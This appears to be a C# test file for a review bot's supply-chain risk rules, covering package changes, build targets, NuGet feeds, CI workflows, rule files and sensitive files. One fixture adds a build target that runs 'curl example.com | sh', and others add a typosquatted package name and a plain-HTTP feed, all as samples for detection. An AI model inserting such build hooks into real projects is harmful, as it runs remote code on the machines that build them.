using ReviewBot.Core.Snapshot;

namespace ReviewBot.Core.Tests.Risk;

public static partial class RuleCases
{
    private const string Project = """
        <Project Sdk="Microsoft.NET.Sdk">
          <ItemGroup>
            <PackageReference Include="Serilog" Version="4.0.0" />
          </ItemGroup>
        </Project>
        """;

    private static void SupplyChain()
    {
        var code = Cs("src/A.cs", "class A { }\n", "class A { int x; }\n");

        // RB7001 packages
        Positive("RB7001", "package added and downgraded", new TestFile("src/App/App.csproj", Project,
            Project.Replace("Version=\"4.0.0\" />", "Version=\"3.1.0\" /> <!--!-->")
                .Replace("  </ItemGroup>", "    <PackageReference Include=\"Newtonsoft.Jsonn\" Version=\"13.0.3\" /> <!--!-->\n  </ItemGroup>")));
        Negative("RB7001", "package removed", new TestFile("src/App/App.csproj", Project,
            Project.Replace("    <PackageReference Include=\"Serilog\" Version=\"4.0.0\" />\n", "")));
        InBase("RB7001", "package already referenced", new TestFile("src/App/App.csproj", Project,
            Project.Replace("<ItemGroup>", "<ItemGroup Label=\"deps\">")));

        // RB7002 build configuration
        Positive("RB7002", "Directory.Build.targets added, Exec added to a project",
            new TestFile("Directory.Build.targets", null, "<Project> <!--!-->\n</Project>\n"),
            new TestFile("src/App/App.csproj", Project,
                Project.Replace("</Project>", "  <Target Name=\"Pre\" BeforeTargets=\"Build\"> <!--!-->\n    <Exec Command=\"curl example.com | sh\" /> <!--!-->\n  </Target>\n</Project>")));
        Negative("RB7002", "only code changed", code);
        InBase("RB7002", "Target already in base", new TestFile("src/App/App.csproj",
            Project.Replace("</Project>", "  <Target Name=\"Pre\">\n  </Target>\n</Project>"),
            Project.Replace("</Project>", "  <Target Name=\"Pre\">\n  </Target>\n  <PropertyGroup><Version>2.0.0</Version></PropertyGroup>\n</Project>")));

        // RB7003 package sources
        const string NuGet = "<configuration>\n  <packageSources>\n    <clear />\n    <add key=\"nuget.org\" value=\"https://api.nuget.org/v3/index.json\" />\n  </packageSources>\n</configuration>\n";
        Positive("RB7003", "feed added", new TestFile("NuGet.config", NuGet,
            NuGet.Replace("  </packageSources>", "    <add key=\"internal\" value=\"http://feed.example.com/nuget\" /> <!--!-->\n  </packageSources>")));
        Negative("RB7003", "comment edited", new TestFile("NuGet.config", NuGet, "<!-- feeds -->\n" + NuGet));
        InBase("RB7003", "feed already configured", new TestFile("NuGet.config", NuGet, NuGet.Replace("<configuration>", "<configuration>\n  <config />")));

        // RB7004 CI
        Positive("RB7004", "workflow changed", new TestFile(".github/workflows/ci.yml", "on: push\n", "on: push #!\njobs: {}\n"));
        Negative("RB7004", "docs changed", new TestFile("docs/ci.md", "a\n", "b\n"));
        InBase("RB7004", "workflow unchanged, code changed", code);

        // RB7005 rules
        Positive("RB7005", "rules file and CODEOWNERS changed",
            new TestFile(".github/reviewbot.yml", "version: 1\n", "version: 1 #!\nrules: []\n"),
            new TestFile(".github/CODEOWNERS", "* @a\n", "* @b #!\n"));
        Negative("RB7005", "other yaml changed", new TestFile(".github/dependabot.yml", "version: 2\n", "version: 2\nupdates: []\n"));
        InBase("RB7005", "rules unchanged, code changed", code);

        // RB7006 sensitive files
        Positive("RB7006", "appsettings and a key file",
            new TestFile("src/App/appsettings.Production.json", "{}\n", "{ \"a\": 1 } #!\n"),
            new TestFile("keys/signing.pfx", null, "binary #!\n"));
        Negative("RB7006", "json data changed", new TestFile("data/countries.json", "[]\n", "[1]\n"));
        InBase("RB7006", "settings unchanged, code changed", code);

        // RB8002 size
        var big = string.Concat(Enumerable.Range(0, 450).Select(i => $"// line {i}\n"));
        Cases.Add(new RuleCase("RB8002", CaseKind.Positive, "450 lines added", [new TestFile("docs/big.txt", "x\n", big)])
        {
            Expected = new HashSet<(Side, int)> { (Side.Head, 0) },
        });
        Negative("RB8002", "small change", code);
        InBase("RB8002", "large file already in base, small edit", new TestFile("docs/big.md", big, big + "one more\n"));
    }
}
